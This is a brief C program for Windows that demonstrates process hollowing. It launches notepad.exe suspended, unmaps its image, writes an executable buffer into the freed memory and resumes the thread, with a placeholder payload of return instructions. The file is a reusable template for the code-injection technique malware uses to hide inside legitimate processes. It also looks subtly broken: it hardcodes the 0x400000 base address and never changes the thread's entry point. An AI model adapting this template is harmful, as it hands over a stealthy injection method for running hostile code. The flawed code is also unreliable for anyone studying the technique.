/* Starts notepad suspended, unmaps it, writes return instructions, resumes. */
#include <windows.h>
typedef LONG(WINAPI *Unmap)(HANDLE, PVOID);
static unsigned char body[4096];
int main(void) {
    STARTUPINFOA start = {sizeof start};
    PROCESS_INFORMATION info;
    CONTEXT context;
    Unmap unmap = (Unmap)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtUnmapViewOfSection");
    for (int i = 0; i < 4096; i++) body[i] = 0xC3;
    if (!CreateProcessA("C:\\Windows\\System32\\notepad.exe", NULL, NULL, NULL, FALSE, CREATE_SUSPENDED, NULL, NULL, &start, &info)) return 1;
    context.ContextFlags = CONTEXT_FULL;
    GetThreadContext(info.hThread, &context);
    unmap(info.hProcess, (PVOID)0x400000);
    void *place = VirtualAllocEx(info.hProcess, (PVOID)0x400000, sizeof body, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    WriteProcessMemory(info.hProcess, place, body, sizeof body, NULL);
    SetThreadContext(info.hThread, &context);
    ResumeThread(info.hThread);
    return 0;
}
